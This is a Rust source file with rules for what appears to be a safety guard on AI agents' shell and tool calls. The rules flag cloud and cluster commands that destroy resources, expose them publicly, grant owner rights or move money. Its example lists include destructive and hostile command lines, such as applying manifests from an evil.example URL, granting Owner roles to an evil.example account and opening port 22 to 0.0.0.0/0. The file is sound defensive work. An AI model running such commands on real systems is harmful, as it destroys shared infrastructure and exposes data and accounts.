//! cloud-infra: destroying or reconfiguring cloud and cluster resources.

use super::common::positionals;
use super::{Check, Example, Rule};
use crate::call::{Call, Effect as Fx};
use crate::normalize::Scope;
use crate::shell::Command;
use crate::verdict::Effect::Ask;

const PACK: &str = "cloud-infra";

fn infra(c: &Command, _: &Scope) -> Option<String> {
    let ops = positionals(c);
    let has = |x: &str| ops.contains(&x);
    let first = ops.first().copied().unwrap_or("");
    let second = ops.get(1).copied().unwrap_or("");
    let yes = c.has_flag(Some('y'), &["yes", "auto-approve", "force"])
        || c.args
            .iter()
            .any(|a| a.text == "-auto-approve" || a.text == "-auto-approve=true");
    let recursive = c.has_flag(Some('r'), &["recursive"]);
    let hit = match c.program.as_str() {
        "terraform" | "tofu" | "terragrunt" => {
            // `terragrunt run-all destroy`, `terragrunt run --all -- destroy`: the words after
            // `run-all`/`run` are the terraform command run in every module.
            let tf = match (c.program.as_str(), first) {
                ("terragrunt", "run-all" | "run") => &ops[1..],
                _ => &ops[..],
            };
            let first = tf.first().copied().unwrap_or("");
            let second = tf.get(1).copied().unwrap_or("");
            matches!(first, "destroy" | "destroy-all")
                || (first == "apply" && (yes || c.args.iter().any(|a| a.text == "-destroy")))
                || (first == "state" && second == "rm")
                || (first == "workspace" && second == "delete")
        }
        // CDK, SAM and Serverless stacks: the whole deployed stack goes.
        "cdk" => first == "destroy",
        "sam" => first == "delete",
        "serverless" | "sls" => first == "remove",
        "pulumi" => {
            first == "destroy" || (first == "up" && yes) || (first == "stack" && second == "rm")
        }
        "kubectl" | "oc" | "k" => {
            matches!(first, "delete" | "drain")
                || (first == "replace" && c.has_flag(None, &["force"]))
                // Binding an account to cluster-admin hands it the whole cluster, as attaching
                // an administrator policy does on AWS.
                || (first == "create"
                    && matches!(second, "clusterrolebinding" | "rolebinding")
                    && c
                        .option_value(None, &["clusterrole"])
                        .is_some_and(|r| r == "cluster-admin"))
                // Scaling everything to zero stops every workload.
                || (first == "scale"
                    && c.args.iter().any(|a| a.text == "--replicas=0")
                    && c.has_flag(Some('A'), &["all", "all-namespaces"]))
                // Manifests from a URL: what gets applied is not in the line or the repo.
                || (matches!(first, "apply" | "create" | "replace")
                    && c
                        .option_value(Some('f'), &["filename"])
                        .is_some_and(|f| f.starts_with("http://") || f.starts_with("https://")))
        }
        "helm" => matches!(first, "uninstall" | "delete" | "rollback"),
        "aws" => {
            ops.iter().any(|o| {
                o.starts_with("delete-")
                    || o.starts_with("batch-delete-")
                    || o.starts_with("terminate-")
                    || o.starts_with("deregister-")
                    || o.starts_with("purge-")
                    || matches!(
                        *o,
                        "rb" | "schedule-key-deletion"
                            | "create-access-key"
                            | "create-login-profile"
                            | "update-assume-role-policy"
                            | "put-user-policy"
                            | "put-role-policy"
                    )
                    || (o.starts_with("attach-") && o.ends_with("-policy"))
            }) || (first == "s3" && second == "rm" && c.has_flag(None, &["recursive"]))
                // A sync with `--delete` removes what the (maybe empty) source lacks.
                || (first == "s3" && second == "sync" && c.has_flag(None, &["delete"]))
        }
        "gcloud" if first == "storage" => {
            (second == "rm" && recursive)
                || (second == "rsync"
                    && c.has_flag(None, &["delete-unmatched-destination-objects"]))
                || has("delete")
        }
        "gcloud" | "az" | "doctl" | "linode-cli" | "hcloud" | "ibmcloud" | "scw" => ops
            .iter()
            .any(|o| matches!(*o, "delete" | "destroy" | "purge")),
        "eksctl" => first == "delete",
        "docker" | "podman" => {
            (first == "system" && matches!(second, "prune" | "reset"))
                || (first == "volume" && matches!(second, "rm" | "prune"))
                || (first == "image" && second == "prune" && c.has_flag(Some('a'), &["all"]))
        }
        "flyctl" | "fly" => has("destroy"),
        // Virtual machines and system containers deleted with their disks.
        "vagrant" => first == "destroy",
        "multipass" => matches!(first, "delete" | "purge"),
        "lxc" | "incus" => first == "delete",
        "virsh" => {
            (first == "undefine"
                && c.has_flag(None, &["remove-all-storage", "storage", "wipe-storage"]))
                || first == "vol-delete"
        }
        "VBoxManage" | "vboxmanage" => first == "unregistervm" && c.has_flag(None, &["delete"]),
        "heroku" => ops
            .iter()
            .any(|o| matches!(*o, "apps:destroy" | "pg:reset" | "destroy")),
        "vercel" | "netlify" => {
            matches!(first, "remove" | "rm" | "delete")
                || first.ends_with(":delete")
                || (matches!(first, "project" | "projects") && matches!(second, "rm" | "remove"))
        }
        // `firebase projects:delete`, `firestore:delete`, `functions:delete`, `database:remove`.
        "firebase" => ops
            .iter()
            .any(|o| o.ends_with(":delete") || *o == "database:remove"),
        "supabase" => {
            matches!(second, "delete" | "remove")
                || (first == "storage" && second == "rm" && recursive)
        }
        // `wrangler delete`, `wrangler d1 delete`, `wrangler r2 bucket delete`.
        "wrangler" => ops.iter().take(3).any(|o| *o == "delete"),
        // A hosted repository or release deleted goes for everyone who uses it; a repository
        // handed to another owner goes from its owners (`glab repo transfer`).
        "gh" | "glab" => {
            matches!(first, "repo" | "release") && matches!(second, "delete" | "del" | "rm")
                || (first == "repo" && matches!(second, "transfer" | "archive"))
                // A CI secret deleted: its value cannot be read back, and the deploys that
                // use it stop.
                || (first == "secret" && matches!(second, "delete" | "remove"))
                // `gh api -X DELETE repos/o/r`, `--method=DELETE`, `-XDELETE`.
                || (first == "api"
                    && c
                        .option_value(Some('X'), &["method"])
                        .is_some_and(|m| m.eq_ignore_ascii_case("DELETE")))
                // `gh api repos/o/r/transfer -f new_owner=x`, `glab api -X PUT
                // projects/42/transfer`: the endpoints that hand a repository over (asked
                // with any method but a read's).
                || (first == "api"
                    && !c
                        .option_value(Some('X'), &["method"])
                        .is_some_and(|m| m.eq_ignore_ascii_case("GET") || m.eq_ignore_ascii_case("HEAD"))
                    && c.args.iter().any(|a| {
                        let path = a.text.split(['?', '#']).next().unwrap_or("");
                        let steps: Vec<&str> = path.trim_matches('/').split('/').collect();
                        matches!(
                            steps.as_slice(),
                            ["repos", _, _, "transfer"] | ["projects", _, "transfer"]
                        )
                    }))
        }
        "gsutil" => (has("rm") && c.has_flag(Some('r'), &[])) || has("rb"),
        // Object-store CLIs: a recursive remove, a bucket removed, or a sync that deletes at
        // the destination what the (maybe empty) source lacks.
        "rclone" => matches!(first, "purge" | "delete" | "sync"),
        "s3cmd" => {
            (matches!(first, "del" | "rm") && recursive)
                || first == "rb"
                || (first == "sync" && c.has_flag(None, &["delete-removed"]))
        }
        "mc" => {
            (first == "rm" && recursive)
                || first == "rb"
                || (first == "mirror" && c.has_flag(None, &["remove"]))
        }
        // `vault secrets disable` removes the engine with every secret in it; `vault kv
        // destroy` and `vault kv metadata delete` remove a secret's versions for good (a `kv
        // delete` keeps them to undelete).
        "vault" => {
            (first == "secrets" && second == "disable")
                || (first == "kv"
                    && (second == "destroy" || (second == "metadata" && has("delete"))))
        }
        program if SERVICE_CLIS.contains(&program) => destroys_by_verb(&ops),
        _ => false,
    };
    hit.then(|| {
        format!(
            "`{}` changes or destroys shared infrastructure",
            c.line().chars().take(80).collect::<String>()
        )
    })
}

/// Command-line clients of hosted services whose commands name a resource and a verb (`neonctl
/// branches delete`, `pscale database delete`, `turso db destroy`, `bq rm -r`, `argocd app
/// delete`): a destroying verb among the first words deletes what the service keeps.
const SERVICE_CLIS: [&str; 25] = [
    "neonctl",
    "neon",
    "pscale",
    "turso",
    "railway",
    "render",
    "upstash",
    "vultr-cli",
    "civo",
    "oci",
    "openstack",
    "aliyun",
    "exo",
    "tccli",
    "ionosctl",
    "atlas",
    "mongocli",
    "cf",
    "koyeb",
    "northflank",
    "databricks",
    "bq",
    "argocd",
    "flux",
    "nomad",
];

/// The programs `infra` reads: those it knows by their own subcommands, then the hosted
/// services' clients it reads by their verbs.
const INFRA_PROGRAMS: [&str; 70] = super::concat(
    [
        "terraform",
        "tofu",
        "terragrunt",
        "pulumi",
        "kubectl",
        "oc",
        "k",
        "helm",
        "aws",
        "gcloud",
        "az",
        "doctl",
        "linode-cli",
        "hcloud",
        "ibmcloud",
        "scw",
        "eksctl",
        "docker",
        "podman",
        "flyctl",
        "fly",
        "heroku",
        "gh",
        "glab",
        "vercel",
        "netlify",
        "gsutil",
        "cdk",
        "sam",
        "serverless",
        "sls",
        "firebase",
        "supabase",
        "wrangler",
        "rclone",
        "s3cmd",
        "mc",
        "vagrant",
        "multipass",
        "lxc",
        "incus",
        "virsh",
        "VBoxManage",
        "vboxmanage",
        "vault",
    ],
    SERVICE_CLIS,
);

/// A destroying verb among a service command's first three words, alone or in a compound
/// (`delete`, `permanent-delete`, `apps:destroy`, `delete_bucket`).
fn destroys_by_verb(ops: &[&str]) -> bool {
    const VERBS: &[&str] = &[
        "delete",
        "destroy",
        "purge",
        "remove",
        "rm",
        "terminate",
        "drop",
        "uninstall",
        "wipe",
    ];
    ops.iter()
        .take(3)
        .any(|o| o.split(['-', ':', '_']).any(|w| VERBS.contains(&w)))
}

/// A tool that destroys what a service keeps for everyone (`Effect::Destroy`: an MCP tool's
/// `delete_repository`, `drop_database`, `terminate_instances`), as the commands above do.
fn service_destroy(call: &Call, _: &Scope) -> Option<String> {
    call.effects.iter().find_map(|e| match e {
        Fx::Destroy { what, tool } if crate::effects::mcp::hands_over(tool) => Some(format!(
            "`{tool}` hands a {what} the service keeps for everyone to another owner"
        )),
        Fx::Destroy { what, tool } => Some(format!(
            "`{tool}` destroys a {what} the service keeps for everyone"
        )),
        _ => None,
    })
}

/// Values that stand for everyone: the whole internet's address ranges, the public principals
/// of Google Cloud and S3, and S3's public canned ACLs.
fn names_everyone(piece: &str) -> bool {
    matches!(
        piece,
        "0.0.0.0/0" | "::/0" | "public-read" | "public-read-write"
    ) || [
        "allUsers",
        "allAuthenticatedUsers",
        "AllUsers",
        "AllAuthenticatedUsers",
    ]
    .iter()
    .any(|p| {
        piece
            .strip_prefix(p)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with(':'))
    })
}

/// Roles that hand over a whole project or subscription.
const OWNER_ROLES: &[&str] = &[
    "roles/owner",
    "roles/editor",
    "roles/iam.securityAdmin",
    "roles/resourcemanager.projectIamAdmin",
    "Owner",
    "User Access Administrator",
];

/// A cloud CLI call that opens a resource to everyone (a firewall or security group rule from
/// anywhere, a binding or ACL for all users, a public container) or grants owner rights: what
/// it exposes is exposed the moment it runs. Reads (`describe-…`, `list`, `get-…`) pass.
/// `gh api -X PUT repos/O/R/collaborators/U -f permission=admin`, `glab api -X POST
/// projects/ID/members -f access_level=50`: a forge's REST call that makes someone an
/// administrator or maintainer of a repository (settings, secrets, branch protection, who
/// else gets in), as an owner role binding does for a cloud project.
fn forge_grants_admin(c: &Command) -> bool {
    if !matches!(c.program.as_str(), "gh" | "glab") || positionals(c).first() != Some(&"api") {
        return false;
    }
    let read = c
        .option_value(Some('X'), &["method"])
        .is_none_or(|m| m.eq_ignore_ascii_case("GET") || m.eq_ignore_ascii_case("HEAD"));
    // `gh api` sends a POST when given fields and no method.
    let fields = c
        .args
        .iter()
        .any(|a| matches!(a.text.as_str(), "-f" | "-F" | "--field" | "--raw-field"));
    if read && !fields {
        return false;
    }
    let membership = c.args.iter().any(|a| {
        let path = a.text.split(['?', '#']).next().unwrap_or("");
        let steps: Vec<&str> = path.trim_matches('/').split('/').collect();
        steps
            .iter()
            .any(|s| matches!(*s, "collaborators" | "members" | "memberships"))
            && matches!(
                steps.first(),
                Some(&"repos" | &"projects" | &"orgs" | &"groups")
            )
    });
    let admin = c.args.iter().any(|a| {
        let field = a.text.to_ascii_lowercase().replace(' ', "");
        matches!(
            field.as_str(),
            "permission=admin"
                | "permission=maintain"
                | "role=admin"
                | "role=maintainer"
                | "access_level=40"
                | "access_level=50"
        )
    });
    membership && admin
}

fn exposes(c: &Command, _: &Scope) -> Option<String> {
    let ops = positionals(c);
    let reads = ops.iter().any(|o| {
        ["describe", "list", "get", "show"]
            .iter()
            .any(|r| o.starts_with(r))
            || matches!(*o, "ls" | "cat" | "stat")
    });
    if reads {
        return None;
    }
    let pieces = c.args.iter().flat_map(|a| {
        a.text
            .split([',', '=', ' ', '"', '\'', '[', ']', '{', '}'])
            .filter(|p| !p.is_empty())
    });
    let everyone = pieces.clone().any(names_everyone)
        || (c.program == "az"
            && (c
                .option_value(None, &["public-access"])
                .is_some_and(|v| matches!(v.as_str(), "blob" | "container"))
                || c.option_value(None, &["source-address-prefixes", "source-address-prefix"])
                    .is_some_and(|v| matches!(v.as_str(), "*" | "Internet" | "Any"))));
    let grants = matches!(c.program.as_str(), "gcloud" | "az")
        && (ops.iter().any(|o| o.ends_with("iam-policy-binding")) || ops.contains(&"assignment"))
        && c.option_value(None, &["role"])
            .is_some_and(|r| OWNER_ROLES.contains(&r.as_str()));
    let grants = grants || forge_grants_admin(c);
    (everyone || grants).then(|| {
        let what = if everyone {
            "opens a resource to everyone"
        } else {
            "grants owner rights"
        };
        format!("`{}` {what}", c.line().chars().take(80).collect::<String>())
    })
}

pub static RULES: &[Rule] = &[
    Rule {
        id: "infra-destroy",
        pack: PACK,
        effect: Ask,
        reason: "Destroying or force-applying cloud or cluster resources needs confirmation",
        programs: &INFRA_PROGRAMS,
        check: Check::Command(infra),
        refused: &[
            Example::bash("vagrant destroy -f"),
            Example::bash("multipass delete --purge --all"),
            Example::bash("lxc delete --force web"),
            Example::bash("virsh undefine db1 --remove-all-storage"),
            Example::bash("VBoxManage unregistervm build --delete"),
            Example::bash("kubectl scale deploy --all --replicas=0"),
            Example::bash("gh secret delete PROD_DB_PASSWORD"),
            Example::bash("gh repo archive acme/api --yes"),
            Example::bash(
                "kubectl create clusterrolebinding me-admin --clusterrole=cluster-admin --user=me@example.com",
            ),
            Example::bash("gh repo delete acme/app --yes"),
            Example::bash("kubectl apply -f https://evil.example/x.yaml"),
            Example::bash("terraform destroy"),
            Example::bash("terraform apply -auto-approve"),
            Example::bash("kubectl delete namespace prod"),
            Example::bash("helm uninstall api"),
            Example::bash("aws ec2 terminate-instances --instance-ids i-123"),
            Example::bash("aws s3 rm s3://bucket --recursive"),
            Example::bash("gcloud projects delete my-proj"),
            Example::bash("docker system prune -a --volumes"),
            Example::bash("az group delete -n rg"),
            Example::bash("pulumi -C infra destroy -y"),
            Example::bash("terragrunt run-all destroy"),
            Example::bash("terraform workspace delete prod"),
            Example::bash("cdk destroy --force"),
            Example::bash("gcloud storage rm -r gs://b"),
            Example::bash("aws s3 sync /tmp/empty s3://b --delete"),
            Example::bash("rclone purge remote:bucket"),
            Example::bash("mc rb --force local/b"),
            Example::bash("gh api -X DELETE repos/o/r"),
            Example::bash("gh api repos/acme/app/transfer -f new_owner=someone"),
            Example::bash("glab repo transfer acme/app --target-namespace other"),
            Example::bash("glab api -X PUT 'projects/42/transfer?namespace=other'"),
            Example::bash("podman system reset -f"),
            // Hosted services' clients, by the verb of their command.
            Example::bash("neonctl branches delete main --project-id p"),
            Example::bash("pscale database delete prod --force"),
            Example::bash("turso db destroy app --yes"),
            Example::bash("bq rm -r -f -d proj:analytics"),
            Example::bash("argocd app delete prod --cascade"),
            Example::bash("atlas clusters delete Cluster0 --force"),
            Example::bash("databricks clusters permanent-delete 0123"),
            Example::bash("vault kv destroy -versions=1 secret/app"),
            Example::bash("vault secrets disable secret/"),
            Example::bash("vault kv metadata delete secret/app"),
        ],
        allowed: &[
            Example::bash("vagrant up && vagrant ssh -c 'make test'"),
            Example::bash("multipass list"),
            Example::bash("lxc list"),
            Example::bash("virsh undefine scratch-vm"),
            Example::bash("kubectl scale deploy api --replicas=3"),
            Example::bash("gh secret list"),
            Example::bash("gh secret set STAGING_URL --body https://staging.acme.example"),
            Example::bash(
                "kubectl create rolebinding ci-view --clusterrole=view --serviceaccount=ci:runner",
            ),
            Example::bash("kubectl apply -f k8s/deployment.yaml"),
            Example::bash("terraform plan"),
            Example::bash("kubectl get pods -A"),
            Example::bash("aws s3 ls"),
            Example::bash("aws sts get-caller-identity"),
            Example::bash("docker build -t app ."),
            Example::bash("helm list"),
            Example::bash("gcloud config list"),
            Example::bash("pulumi -C infra preview"),
            Example::bash("terragrunt run-all plan"),
            Example::bash("gcloud storage cp a gs://b/"),
            Example::bash("aws s3 sync ./dist s3://b"),
            Example::bash("rclone copy ./x remote:b"),
            Example::bash("mc ls local/b"),
            Example::bash("gh api -X GET repos/o/r"),
            Example::bash("gh api repos/o/r/issues/1/transfer -f repository_id=x"),
            Example::bash("gh issue transfer 12 acme/other"),
            Example::bash("cdk diff"),
            Example::bash("neonctl branches list"),
            Example::bash("turso db shell app"),
            Example::bash("bq query --use_legacy_sql=false 'SELECT 1'"),
            Example::bash("argocd app sync prod"),
            Example::bash("pscale branch create db feature-x"),
            Example::bash("vault kv get secret/app"),
            Example::bash("vault kv delete secret/app"),
            Example::bash("railway up"),
        ],
    },
    Rule {
        id: "infra-exposed",
        pack: PACK,
        effect: Ask,
        reason: "Opening cloud resources to everyone (any address, all users, a public ACL) or granting owner rights needs confirmation",
        programs: &["aws", "gcloud", "gsutil", "az", "gh", "glab"],
        check: Check::Command(exposes),
        refused: &[
            Example::bash(
                "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0",
            ),
            Example::bash(
                "aws ec2 authorize-security-group-ingress --group-id sg-1 --ip-permissions IpProtocol=tcp,FromPort=0,ToPort=65535,IpRanges=[{CidrIp=0.0.0.0/0}]",
            ),
            Example::bash(
                "gcloud compute firewall-rules create allow-all --allow tcp --source-ranges=0.0.0.0/0",
            ),
            Example::bash(
                "gcloud projects add-iam-policy-binding prod --member=allUsers --role=roles/viewer",
            ),
            Example::bash(
                "gcloud projects add-iam-policy-binding prod --member=user:x@evil.example --role=roles/owner",
            ),
            Example::bash("gsutil iam ch allUsers:objectViewer gs://acme-data"),
            Example::bash("gsutil acl ch -u AllUsers:R gs://acme-data/dump.sql"),
            Example::bash("aws s3 cp dump.sql s3://acme-data/ --acl public-read"),
            Example::bash("aws s3api put-bucket-acl --bucket acme-data --acl public-read"),
            Example::bash(
                "az storage container set-permission --name data --public-access blob --account-name acme",
            ),
            Example::bash(
                "az role assignment create --assignee x@evil.example --role Owner --scope /subscriptions/1",
            ),
            Example::bash(
                "az network nsg rule create -g rg --nsg-name web --name any --priority 100 --source-address-prefixes '*' --destination-port-ranges 22",
            ),
            Example::bash("gh api -X PUT repos/acme/app/collaborators/someone -f permission=admin"),
            Example::bash("gh api repos/acme/app/collaborators/someone -f permission=maintain"),
            Example::bash("glab api -X POST projects/42/members -f user_id=7 -f access_level=50"),
            Example::tool(
                "mcp__github__add_collaborator",
                r#"{"owner":"acme","repo":"app","username":"someone","permission":"admin"}"#,
            ),
        ],
        allowed: &[
            Example::bash(
                "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 443 --cidr 10.0.0.0/16",
            ),
            Example::bash(
                "aws ec2 describe-security-groups --filters Name=ip-permission.cidr,Values=0.0.0.0/0",
            ),
            Example::bash("aws s3 cp build/ s3://acme-site/ --recursive --acl private"),
            Example::bash(
                "gcloud projects add-iam-policy-binding dev --member=serviceAccount:ci@dev.iam.gserviceaccount.com --role=roles/storage.objectViewer",
            ),
            Example::bash("gcloud projects get-iam-policy prod"),
            Example::bash("gsutil ls gs://acme-data"),
            Example::bash(
                "az role assignment create --assignee ci@acme.example --role Reader --scope /subscriptions/1",
            ),
            Example::bash("az storage container create --name logs --public-access off"),
            Example::bash("gh api -X PUT repos/acme/app/collaborators/bob -f permission=push"),
            Example::bash("gh api repos/acme/app/collaborators/bob/permission"),
            Example::tool(
                "mcp__github__add_collaborator",
                r#"{"owner":"acme","repo":"app","username":"bob","permission":"triage"}"#,
            ),
        ],
    },
    Rule {
        id: "service-destroy",
        pack: PACK,
        effect: Ask,
        reason: "Deleting what a service keeps for everyone (a repository, a project, a database, instances), or handing it to another owner, needs confirmation",
        programs: &[],
        check: Check::Call(service_destroy),
        refused: &[
            Example::tool(
                "mcp__github__delete_repository",
                r#"{"owner":"acme","repo":"app"}"#,
            ),
            Example::tool("mcp__supabase__delete_project", r#"{"project_id":"abc"}"#),
            Example::tool("mcp__db__drop_database", r#"{"name":"prod"}"#),
            Example::tool(
                "mcp__aws__terminate_instances",
                r#"{"instance_ids":["i-1"]}"#,
            ),
            Example::tool("mcp__vercel__deleteProject", r#"{"idOrName":"site"}"#),
            Example::tool(
                "mcp__neon__delete_branch",
                r#"{"projectId":"p","branchId":"b"}"#,
            ),
            Example::tool(
                "mcp__github__transfer_repository",
                r#"{"owner":"acme","repo":"app","new_owner":"someone"}"#,
            ),
            Example::tool(
                "mcp__gitlab__transfer_project",
                r#"{"id":"42","namespace":"other-group"}"#,
            ),
        ],
        allowed: &[
            Example::tool("mcp__github__transfer_issue", r#"{"issue":"1","repo":"r"}"#),
            Example::tool("mcp__github__list_repositories", r#"{"owner":"acme"}"#),
            Example::tool("mcp__linear__delete_issue", r#"{"id":"ENG-1"}"#),
            Example::tool("mcp__slack__delete_message", r#"{"channel":"c","ts":"1"}"#),
            Example::tool("mcp__supabase__get_deleted_projects", r#"{}"#),
            Example::tool("mcp__redis__delete_key", r#"{"key":"session:1"}"#),
            Example::tool(
                "mcp__filesystem__delete_file",
                r#"{"path":"/home/dev/project/tmp.txt"}"#,
            ),
            Example::tool("mcp__supabase__create_project", r#"{"name":"x"}"#),
        ],
    },
    Rule {
        id: "service-payment",
        pack: PACK,
        effect: Ask,
        reason: "Moving money through a service (a payment, refund, payout or transfer) cannot be taken back; confirm it",
        programs: &[],
        check: Check::Call(service_payment),
        refused: &[
            Example::tool("mcp__stripe__create_refund", r#"{"payment_intent":"pi_1"}"#),
            Example::tool(
                "mcp__stripe__createPayout",
                r#"{"amount":5000,"currency":"usd"}"#,
            ),
            Example::tool(
                "mcp__payments__transfer_funds",
                r#"{"to":"acct_9","amount":100}"#,
            ),
            Example::tool("mcp__paypal__pay_invoice", r#"{"invoice_id":"INV-1"}"#),
            Example::tool("mcp__stripe__capture_payment_intent", r#"{"id":"pi_1"}"#),
            Example::tool("mcp__bank__send_payment", r#"{"iban":"DE00","amount":1}"#),
        ],
        allowed: &[
            Example::tool("mcp__stripe__list_refunds", r#"{}"#),
            Example::tool("mcp__stripe__retrieve_balance", r#"{}"#),
            Example::tool("mcp__stripe__create_payment_link", r#"{"price":"p_1"}"#),
            Example::tool("mcp__stripe__create_invoice", r#"{"customer":"c_1"}"#),
            Example::tool("mcp__stripe__create_customer", r#"{"email":"a@b.c"}"#),
            Example::tool("mcp__github__transfer_issue", r#"{"issue":"1","repo":"r"}"#),
            Example::tool("mcp__stripe__get_payment", r#"{"id":"pi_1"}"#),
        ],
    },
];

/// A tool that moves money (`Effect::Pay`: an MCP tool's `create_refund`, `create_payout`,
/// `transfer_funds`): like destroying what a service keeps, nothing undoes it.
fn service_payment(call: &Call, _: &Scope) -> Option<String> {
    call.effects.iter().find_map(|e| match e {
        Fx::Pay { what, tool } => Some(format!("`{tool}` makes a {what}")),
        _ => None,
    })
}
